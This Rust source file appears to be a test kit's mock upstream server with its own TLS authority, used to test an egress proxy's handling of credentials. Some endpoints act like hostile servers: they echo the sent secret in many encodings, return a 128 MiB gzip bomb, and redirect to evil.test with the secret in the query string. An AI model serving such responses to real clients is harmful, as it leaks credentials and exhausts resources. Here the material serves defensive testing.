//! A host out there, with TLS and a certificate of an authority of its own. It
//! records what it gets, and at some paths it does what hostile hosts do.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use futures_util::{SinkExt, StreamExt, stream};
use http::{HeaderMap, Request, Response, StatusCode, header};
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt, Full, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use serde_json::json;
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio_rustls::TlsAcceptor;
use tokio_tungstenite::WebSocketStream;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::handshake::derive_accept_key;
use tokio_tungstenite::tungstenite::protocol::Role;

type Body = BoxBody<Bytes, Infallible>;

/// A request that arrived.
#[derive(Debug, Clone)]
pub struct Seen {
    /// The method.
    pub method: String,
    /// Host, as the request names it.
    pub host: String,
    /// Path and query.
    pub target: String,
    /// The headers.
    pub headers: HeaderMap,
    /// The body.
    pub body: Bytes,
    /// `HTTP/1.1` or `HTTP/2.0`.
    pub version: String,
    /// A client certificate came along.
    pub certified: bool,
}

#[derive(Default)]
struct State {
    seen: Mutex<Vec<Seen>>,
    tokens: AtomicU64,
    refuses_tokens: std::sync::atomic::AtomicBool,
    rejects: AtomicU64,
}

/// The host. It answers for every name that it was given.
pub struct Upstream {
    folder: TempDir,
    address: SocketAddr,
    state: Arc<State>,
    task: tokio::task::JoinHandle<()>,
    ca: rcgen::Issuer<'static, rcgen::KeyPair>,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl Upstream {
    /// Starts one that has a certificate for these names.
    ///
    /// # Panics
    /// It cannot.
    pub async fn start(names: &[&str]) -> Self {
        let _ = rustls::crypto::aws_lc_rs::default_provider().install_default();
        let folder = tempfile::Builder::new().prefix("testkit-upstream-").tempdir().expect("a folder");
        std::fs::set_permissions(folder.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("a mode");
        let key = rcgen::KeyPair::generate().expect("a key");
        let mut params = rcgen::CertificateParams::default();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        let authority = params.self_signed(&key).expect("an authority");
        std::fs::write(folder.path().join("ca.pem"), authority.pem()).expect("a file");
        let ca = rcgen::Issuer::new(params, key);
        let own = rcgen::KeyPair::generate().expect("a key");
        let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
        let leaf = rcgen::CertificateParams::new(names).expect("names").signed_by(&own, &ca).expect("a certificate");
        let mut roots = rustls::RootCertStore::empty();
        roots.add(authority.der().clone()).expect("a root");
        let verifier = rustls::server::WebPkiClientVerifier::builder(Arc::new(roots)).allow_unauthenticated().build();
        let mut config = rustls::ServerConfig::builder()
            .with_client_cert_verifier(verifier.expect("a verifier"))
            .with_single_cert(
                vec![CertificateDer::from(leaf.der().to_vec())],
                PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(own.serialize_der())),
            )
            .expect("a configuration");
        config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
        let acceptor = TlsAcceptor::from(Arc::new(config));
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let address = listener.local_addr().expect("an address");
        let state = Arc::new(State::default());
        let shared = state.clone();
        let task = tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                let (acceptor, state) = (acceptor.clone(), shared.clone());
                tokio::spawn(async move {
                    let Ok(stream) = acceptor.accept(socket).await else { return };
                    let certified = stream.get_ref().1.peer_certificates().is_some();
                    let service = service_fn(move |request| answer(state.clone(), certified, request));
                    let server = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
                    let _ = server.serve_connection_with_upgrades(TokioIo::new(stream), service).await;
                });
            }
        });
        Self { folder, address, state, task, ca }
    }

    /// Where it listens.
    #[must_use]
    pub fn address(&self) -> SocketAddr {
        self.address
    }

    /// The PEM file of its authority.
    #[must_use]
    pub fn ca(&self) -> PathBuf {
        self.folder.path().join("ca.pem")
    }

    /// `[egress]` of a configuration in which these names lead here.
    #[must_use]
    pub fn config(&self, names: &[&str]) -> String {
        let hosts: Vec<String> = names.iter().map(|name| format!("\"{name}\" = \"{}\"", self.address)).collect();
        format!("[egress]\nextra_ca = {:?}\n[egress.hosts]\n{}\n", self.ca(), hosts.join("\n"))
    }

    /// What has arrived so far.
    #[must_use]
    pub fn seen(&self) -> Vec<Seen> {
        self.state.seen.lock().unwrap_or_else(std::sync::PoisonError::into_inner).clone()
    }

    /// Forgets what has arrived.
    pub fn forget(&self) {
        self.state.seen.lock().unwrap_or_else(std::sync::PoisonError::into_inner).clear();
    }

    /// Tokens made so far.
    #[must_use]
    pub fn tokens(&self) -> u64 {
        self.state.tokens.load(Ordering::Relaxed)
    }

    /// From now on, refresh tokens are no good.
    pub fn refuse_tokens(&self) {
        self.state.refuses_tokens.store(true, Ordering::Relaxed);
    }

    /// From now on, tokens up to this one are taken for invalid.
    pub fn reject_up_to(&self, token: u64) {
        self.state.rejects.store(token, Ordering::Relaxed);
    }

    /// A client certificate that it knows: certificate and key, PEM.
    ///
    /// # Panics
    /// It cannot be made.
    #[must_use]
    pub fn client_certificate(&self) -> (String, String) {
        let key = rcgen::KeyPair::generate().expect("a key");
        let params = rcgen::CertificateParams::new(vec!["client.test".to_owned()]).expect("a name");
        (params.signed_by(&key, &self.ca).expect("a certificate").pem(), key.serialize_pem())
    }

    /// A certificate for another server of this name: the files of certificate and
    /// key, PEM.
    ///
    /// # Panics
    /// It cannot be made.
    #[must_use]
    pub fn server_certificate(&self, name: &str) -> (PathBuf, PathBuf) {
        let key = rcgen::KeyPair::generate().expect("a key");
        let params = rcgen::CertificateParams::new(vec![name.to_owned()]).expect("a name");
        let files = (self.folder.path().join("server.pem"), self.folder.path().join("server.key"));
        std::fs::write(&files.0, params.signed_by(&key, &self.ca).expect("a certificate").pem()).expect("a file");
        std::fs::write(&files.1, key.serialize_pem()).expect("a file");
        files
    }

    /// Its folder.
    #[must_use]
    pub fn folder(&self) -> &Path {
        self.folder.path()
    }
}

fn whole(text: impl Into<Bytes>) -> Response<Body> {
    Response::new(Full::new(text.into()).boxed())
}

fn pieces(pieces: Vec<Vec<u8>>, pause: Duration, trailers: Option<HeaderMap>) -> Body {
    let frames = pieces.into_iter().map(|piece| Frame::data(Bytes::from(piece)));
    let frames: Vec<Frame<Bytes>> = frames.chain(trailers.map(Frame::trailers)).collect();
    let frames = stream::iter(frames).then(move |frame| async move {
        tokio::time::sleep(pause).await;
        Ok(frame)
    });
    BodyExt::boxed(StreamBody::new(
        Box::pin(frames) as std::pin::Pin<Box<dyn futures_util::Stream<Item = _> + Send + Sync>>
    ))
}

async fn answer(
    state: Arc<State>,
    certified: bool,
    mut request: Request<Incoming>,
) -> Result<Response<Body>, Infallible> {
    let upgrade = request.headers().contains_key(header::UPGRADE).then(|| hyper::upgrade::on(&mut request));
    let (parts, body) = request.into_parts();
    let body = body.collect().await.map(http_body_util::Collected::to_bytes).unwrap_or_default();
    let host = parts.uri.authority().map(ToString::to_string);
    let host = host
        .or_else(|| parts.headers.get(header::HOST).map(|host| String::from_utf8_lossy(host.as_bytes()).into_owned()));
    let host = host.unwrap_or_default();
    state.seen.lock().unwrap_or_else(std::sync::PoisonError::into_inner).push(Seen {
        method: parts.method.to_string(),
        host: host.clone(),
        target: parts.uri.path_and_query().map_or_else(String::new, ToString::to_string),
        headers: parts.headers.clone(),
        body: body.clone(),
        version: format!("{:?}", parts.version),
        certified,
    });
    let value =
        |name: &str| parts.headers.get(name).map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned());
    let secret = value("authorization").or_else(|| value("x-api-key")).unwrap_or_default();
    let secret = secret.split_once(' ').map_or(secret.as_str(), |(_, rest)| rest).to_owned();
    let with = |name: header::HeaderName, value: &str, body: Body| {
        let mut response = Response::new(body);
        response.headers_mut().insert(name, value.parse().expect("a header's value"));
        response
    };
    if let Some((status, answer)) = crate::kms::answer(parts.uri.path(), &parts.headers, &body) {
        let mut response = whole(answer.to_string());
        *response.status_mut() = status;
        return Ok(response);
    }
    Ok(match parts.uri.path() {
        "/headers" => {
            let shown: serde_json::Map<_, _> = parts
                .headers
                .iter()
                .map(|(name, value)| (name.to_string(), json!(String::from_utf8_lossy(value.as_bytes()))))
                .collect();
            with(header::CONTENT_TYPE, "application/json", Full::new(Bytes::from(json!(shown).to_string())).boxed())
        }
        "/forms" => whole(forms(&secret)),
        "/bytes" => Response::new(pieces(format!("<{secret}>").bytes().map(|byte| vec![byte]).collect(), Duration::ZERO, None)),
        "/events" => {
            let events = vec![format!("data: {secret}\n\n").into_bytes(), b"data: second\n\n".to_vec()];
            with(header::CONTENT_TYPE, "text/event-stream", pieces(events, Duration::from_millis(300), None))
        }
        "/trailer" => {
            let mut trailers = HeaderMap::new();
            trailers.insert("x-trailer", secret.parse().expect("a value"));
            let mut response = Response::new(pieces(vec![b"body".to_vec()], Duration::ZERO, Some(trailers)));
            response.headers_mut().insert("x-header", secret.parse().expect("a value"));
            response.headers_mut().insert("trailer", "x-trailer".parse().expect("a value"));
            response
        }
        "/gzip" => with(header::CONTENT_ENCODING, "gzip", Full::new(Bytes::from(gzip(secret.as_bytes()))).boxed()),
        "/zstd" => with(header::CONTENT_ENCODING, "zstd", Full::new(Bytes::from(secret)).boxed()),
        "/bomb" => with(header::CONTENT_ENCODING, "gzip", Full::new(Bytes::from(gzip(&vec![0; 128 << 20]))).boxed()),
        "/cookie" => with(header::SET_COOKIE, &format!("sid={secret}"), Full::new(Bytes::from("cookie")).boxed()),
        "/redirect" => {
            let mut response = with(header::LOCATION, &format!("https://evil.test/?k={secret}"), Full::new(Bytes::new()).boxed());
            *response.status_mut() = StatusCode::FOUND;
            response
        }
        "/token" => with(
            header::CONTENT_TYPE,
            "application/json",
            Full::new(Bytes::from(json!({"access_token": "minted-by-the-other-side", "n": 1}).to_string())).boxed(),
        ),
        "/part" => {
            let mut response = whole(secret.get(..4).unwrap_or_default().to_owned());
            *response.status_mut() = StatusCode::PARTIAL_CONTENT;
            response
        }
        "/hints" => with(header::HeaderName::from_static("alt-svc"), "h3=\":443\"", Full::new(Bytes::from("hints")).boxed()),
        "/echo" => whole(body),
        "/oauth/token" => {
            if state.refuses_tokens.load(Ordering::Relaxed) {
                let mut response = whole(json!({"error": "invalid_grant"}).to_string());
                *response.status_mut() = StatusCode::BAD_REQUEST;
                return Ok(response);
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
            let number = state.tokens.fetch_add(1, Ordering::Relaxed) + 1;
            whole(json!({"access_token": format!("access-token-{number}"), "refresh_token": format!("refresh-token-{number}"), "expires_in": 3600, "token_type": "Bearer"}).to_string())
        }
        "/app/installations/7/access_tokens" => {
            let number = state.tokens.fetch_add(1, Ordering::Relaxed) + 1;
            let mut response = whole(json!({"token": format!("access-token-{number}")}).to_string());
            *response.status_mut() = StatusCode::CREATED;
            response
        }
        "/protected" => {
            let number = secret.strip_prefix("access-token-").and_then(|number| number.parse::<u64>().ok());
            let good = number.is_some_and(|number| number > state.rejects.load(Ordering::Relaxed));
            let mut response = whole(if good { "protected" } else { "no" });
            *response.status_mut() = if good { StatusCode::OK } else { StatusCode::UNAUTHORIZED };
            response
        }
        "/socket" => match upgrade {
            Some(upgrade) => socket(upgrade, &parts.headers, secret),
            None => whole("not a handshake"),
        },
        // What package managers and git ask for.
        "/repo.git/info/refs" => whole("1111111111111111111111111111111111111111\trefs/heads/main\n"),
        "/repo.git/HEAD" => whole("ref: refs/heads/main\n"),
        "/simple/demo-package/" => with(
            header::CONTENT_TYPE,
            "text/html",
            Full::new(Bytes::from("<html><body><a href=\"demo_package-1.2.3-py3-none-any.whl\">demo_package-1.2.3-py3-none-any.whl</a></body></html>")).boxed(),
        ),
        "/demo-package" => with(
            header::CONTENT_TYPE,
            "application/json",
            Full::new(Bytes::from(json!({"name": "demo-package", "dist-tags": {"latest": "1.2.3"}, "versions": {"1.2.3": {"name": "demo-package", "version": "1.2.3", "dist": {}}}}).to_string())).boxed(),
        ),
        "/crates/config.json" => whole(json!({"dl": format!("https://{}/dl", host), "api": format!("https://{}", host)}).to_string()),
        "/api/v1/crates" => whole(json!({"crates": [{"name": "demo-package", "max_version": "1.2.3", "description": "d"}], "meta": {"total": 1}}).to_string()),
        _ => whole(format!("{} over {:?}", parts.uri.path(), parts.version)),
    })
}

/// A secret in every form in which servers show what they were sent.
fn forms(secret: &str) -> String {
    use base64::Engine;
    let engine = base64::engine::general_purpose::STANDARD;
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    let percent: String = secret.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let mut lines = vec![secret.to_owned(), hex.to_uppercase(), hex, percent.to_lowercase(), percent];
    lines.extend((0..3).map(|shift| engine.encode(format!("{}{secret}!", "x".repeat(shift)))));
    lines.push(serde_json::to_string(secret).unwrap_or_default());
    lines.push(secret.replace('/', "\\/"));
    lines.push(secret.replace('&', "&amp;").replace('<', "&lt;"));
    lines.join("\n")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).and_then(|()| encoder.finish()).unwrap_or_default()
}

fn socket(upgrade: hyper::upgrade::OnUpgrade, headers: &HeaderMap, secret: String) -> Response<Body> {
    let key = headers.get(header::SEC_WEBSOCKET_KEY).map(|key| derive_accept_key(key.as_bytes())).unwrap_or_default();
    tokio::spawn(async move {
        let Ok(upgraded) = upgrade.await else { return };
        let mut socket = WebSocketStream::from_raw_socket(TokioIo::new(upgraded), Role::Server, None).await;
        let _ = socket.send(Message::text(format!("hello {secret}"))).await;
        while let Some(Ok(message)) = socket.next().await {
            if message.is_text() || message.is_binary() {
                let _ = socket.send(message).await;
            }
        }
    });
    let mut response = Response::new(Full::new(Bytes::new()).boxed());
    *response.status_mut() = StatusCode::SWITCHING_PROTOCOLS;
    for (name, value) in [("connection", "Upgrade"), ("upgrade", "websocket"), ("sec-websocket-accept", key.as_str())] {
        response.headers_mut().insert(name, value.parse().expect("a value"));
    }
    response
}
